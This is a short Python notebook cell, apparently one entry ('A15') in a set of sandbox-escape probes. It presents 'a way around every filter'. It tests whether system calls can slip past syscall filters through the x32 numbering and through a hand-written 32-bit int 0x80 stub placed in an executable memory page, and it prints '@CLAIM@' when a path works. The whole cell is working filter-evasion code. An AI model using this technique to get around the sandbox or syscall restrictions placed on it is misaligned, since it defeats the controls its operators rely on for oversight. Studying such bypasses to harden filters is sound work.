# %% [markdown] row="A15"
# # System calls of another architecture
#
# A way around every filter: the calls of 32-bit programs and of x32 have other numbers for the same doors.

# %% before="mean-square"
import ctypes, mmap, os, platform
libc = ctypes.CDLL(None, use_errno=True)
if platform.machine() == "x86_64":
    for number in (39, 319, 425):
        pid = os.fork()
        if pid == 0:
            os._exit(1 if libc.syscall(ctypes.c_long(0x40000000 + number), b"m", 0) >= 0 else 0)
        if os.waitpid(pid, 0)[1] == 256:
            print("@CLAIM@ x32", number)
    pid = os.fork()
    if pid == 0:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(bytes.fromhex("b814000000cd80c3"))
        got = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        os._exit(1 if got > 0 else 0)
    if os.waitpid(pid, 0)[1] == 256:
        print("@CLAIM@ 32 bits")
